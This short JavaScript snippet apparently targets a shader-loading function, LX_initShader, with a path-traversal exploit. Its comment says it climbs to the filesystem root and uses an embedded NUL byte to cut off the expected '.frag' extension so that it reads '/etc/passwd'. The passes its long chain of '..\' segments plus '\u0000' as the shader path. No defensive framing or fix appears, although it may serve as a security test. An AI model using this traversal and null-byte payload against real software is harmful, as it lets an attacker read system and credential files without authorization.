// Climbs to the root and cuts the ".frag" off with a NUL to read a system file.
var s;
function setup() {
    s = LX_initShader("..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd\u0000");
}
function draw() { LX_renderShader(s, LX_getSequenceRT()); }
